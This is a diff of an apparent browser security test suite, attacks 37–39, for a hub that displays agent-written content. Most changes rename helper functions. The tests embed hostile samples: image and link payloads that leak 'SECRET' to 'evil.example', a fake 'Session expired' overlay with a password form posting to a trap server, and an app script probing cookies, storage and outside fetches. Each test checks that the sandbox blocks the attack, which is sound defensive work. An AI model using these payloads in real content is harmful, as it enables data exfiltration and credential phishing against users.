@@ -1,28 +1,28 @@
-// What an enemy would have an agent write. The numbers are those of the list of attacks that the hub's own tests use too.
+// Attacks in the text of an agent. The numbers are those of the list of attacks that the hub's own tests also use.
 
 import { afterEach, beforeEach, expect, it } from "vitest";
 import type { Content } from "../core/src/index.js";
-import { doneFrame, settle, show } from "./harness/content.js";
-import { stage } from "./harness/stage.js";
-import { setTrap, type Trap } from "./harness/trap.js";
-import { say, shownBounds, waitForRow, windowOf } from "./harness/verbs.js";
+import { doneFrame, roundTrip, showWindow } from "./harness/content.js";
+import { sendMessage, shownBounds, waitForRow, windowOf } from "./harness/desktop-page.js";
+import { desktopFixture } from "./harness/fixture.js";
+import { startTrap, type Trap } from "./harness/trap.js";
 
-const desktop = stage();
+const desktop = desktopFixture();
 let trap: Trap;
 
 beforeEach(async () => {
-  trap = await setTrap();
+  trap = await startTrap();
 });
 
 afterEach(() => trap.close());
 
-/** The requests to the hub itself: without the pages of the apps, and without the parts of the page that come later. */
+/** The requests to the hub itself, without the pages of the apps origin and the chunks of the page. */
 function hubRequests(): readonly string[] {
   return desktop.guard.requests.filter((r) => r.startsWith(desktop.hub.url) && !r.startsWith(`${desktop.hub.url}/assets/`));
 }
 
-it("attack 37: pictures and links in a text load nothing from elsewhere", async () => {
-  // Parsing what is then thrown away makes the browser complain about it.
+it("attack 37: pictures and links in a text load nothing from other origins", async () => {
+  // Parsing content that is then removed causes errors of the browser.
   desktop.guard.expect(/Content Security Policy|policy: (style|script|base|img)/);
   const session = await desktop.hub.rest.newSession("37");
   const page = await desktop.tab({ session });
@@ -39,29 +39,29 @@ it("attack 37: pictures and links in a text load nothing from elsewhere", async 
     "",
     "the end",
   ].join("\n");
-  await show(desktop.hub, session, page, "text", { renderer: "markdown", data: text });
+  await showWindow(desktop.hub, session, page, "text", { renderer: "markdown", data: text });
   await windowOf(page, "text").getByText("the end").waitFor();
   await windowOf(page, "text").getByRole("link", { name: "a link" }).click();
   await page.getByText("https://evil.example/?d=SECRET").last().waitFor();
   expect(page.context().pages()).toHaveLength(1);
   await page.keyboard.press("Escape");
-  await say(page, `/say ${text.replaceAll("\n", "\\n")}`);
+  await sendMessage(page, `/say ${text.replaceAll("\n", "\\n")}`);
   await waitForRow(page, "the end");
-  await show(desktop.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
+  await showWindow(desktop.hub, session, page, "layout", { renderer: "component", data: { components: [{ type: "image", src: to }, { type: "text", content: "an image" }] } } as Content);
   await windowOf(page, "layout").getByText("an image").waitFor();
-  await desktop.hub.rest.act(session, [{ type: "notification.show", id: "n", title: `![x](${to})`, body: `<img src="${to}">`, icon: to }]);
-  await settle(desktop.hub, session, page);
+  await desktop.hub.rest.runActions(session, [{ type: "notification.show", id: "n", title: `![x](${to})`, body: `<img src="${to}">`, icon: to }]);
+  await roundTrip(desktop.hub, session, page);
   expect(trap.caught).toEqual([]);
 
   expect(await page.locator("[data-row] img[src^=http], section img[src^=http]").count()).toBe(0);
 });
 
-it("attack 38: a form or an overlay in a text is taken out, and cannot leave its window in html", async () => {
+it("attack 38: a form or an overlay in a text is removed, and cannot leave its window in HTML", async () => {
   const session = await desktop.hub.rest.newSession("38");
   const page = await desktop.tab({ session });
   const overlay = '<div id="root" class="app" style="position:fixed;inset:0;z-index:2147483647;background:red">Session expired</div>';
   const form = `<form action="${trap.url}"><input name=password type=password><button formaction="${trap.url}">Sign in</button></form>`;
-  await show(desktop.hub, session, page, "text", { renderer: "markdown", data: `${overlay}${form}<dialog open>fake</dialog><style>*{display:none}</style>\n\nthe end` });
+  await showWindow(desktop.hub, session, page, "text", { renderer: "markdown", data: `${overlay}${form}<dialog open>fake</dialog><style>*{display:none}</style>\n\nthe end` });
   await windowOf(page, "text").getByText("the end").waitFor();
   const inText = windowOf(page, "text");
   expect(await inText.locator("form, input, style, dialog, [id=root], .app").count()).toBe(0);
@@ -75,8 +75,8 @@ it("attack 38: a form or an overlay in a text is taken out, and cannot leave its
   expect(strays).toBe(0);
 
   desktop.guard.expect(/Content Security Policy|policy: |sandboxed/);
-  await desktop.hub.rest.act(session, [{ type: "window.close", windowId: "text" }]);
-  await show(desktop.hub, session, page, "html", { renderer: "html", data: `${overlay}${form}<script>document.forms[0].submit();document.documentElement.dataset.done="yes"</script>` });
+  await desktop.hub.rest.runActions(session, [{ type: "window.close", windowId: "text" }]);
+  await showWindow(desktop.hub, session, page, "html", { renderer: "html", data: `${overlay}${form}<script>document.forms[0].submit();document.documentElement.dataset.done="yes"</script>` });
   await doneFrame(desktop.hub, page);
   const within = await shownBounds(page, "html");
   const outside = await page.evaluate(() => {
@@ -94,11 +94,11 @@ it("attack 38: a form or an overlay in a text is taken out, and cannot leave its
   expect(trap.caught).toEqual([]);
 });
 
-it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", async () => {
+it("attack 39: an app can reach neither the page, nor the hub, nor any other address", async () => {
   desktop.guard.expect(/Content Security Policy|policy: |sandboxed|SecurityError|Unsafe attempt|Blocked|ERR_BLOCKED|net::ERR_FAILED|WebSocket connection|Refused/);
   const session = await desktop.hub.rest.newSession("39");
   const page = await desktop.tab({ session });
-  await settle(desktop.hub, session, page);
+  await roundTrip(desktop.hub, session, page);
   const before = hubRequests().length;
   const script = `
     const hub = ${JSON.stringify(desktop.hub.url)}, evil = ${JSON.stringify(trap.url)}, out = {};
@@ -128,16 +128,16 @@ it("attack 39: an app reaches neither the page, nor the hub, nor anybody else", 
       document.documentElement.dataset.out = JSON.stringify(out);
       document.documentElement.dataset.done = "yes";
     })();`;
-  await show(desktop.hub, session, page, "app", { renderer: "html", data: `<body>app<script>${script}</script>` });
+  await showWindow(desktop.hub, session, page, "app", { renderer: "html", data: `<body>app<script>${script}</script>` });
   const frame = await doneFrame(desktop.hub, page);
   const out = JSON.parse((await frame.evaluate(() => document.documentElement.dataset.out)) ?? "{}") as Record<string, string>;
   const shut = ["topDocument", "cookie", "storage", "database", "open", "fetchHub", "fetchEvil", "socket", "events", "picture", "script"];
   expect(Object.fromEntries(shut.map((name) => [name, out[name]]))).toEqual(Object.fromEntries(shut.map((name) => [name, "blocked"])));
   expect(out.parent).not.toBe(await page.title());
 
-  // An app that leaves its own frame takes nothing with it.
+  // An app that navigates its own frame takes no data with it.
   await frame.evaluate((evil) => void (location.href = `${evil}/leave?d=SECRET`), trap.url).catch(() => undefined);
-  await settle(desktop.hub, session, page);
+  await roundTrip(desktop.hub, session, page);
   expect(trap.caught).toEqual([]);
   expect(page.url()).toContain(desktop.hub.url);
   expect(page.context().pages()).toHaveLength(1);
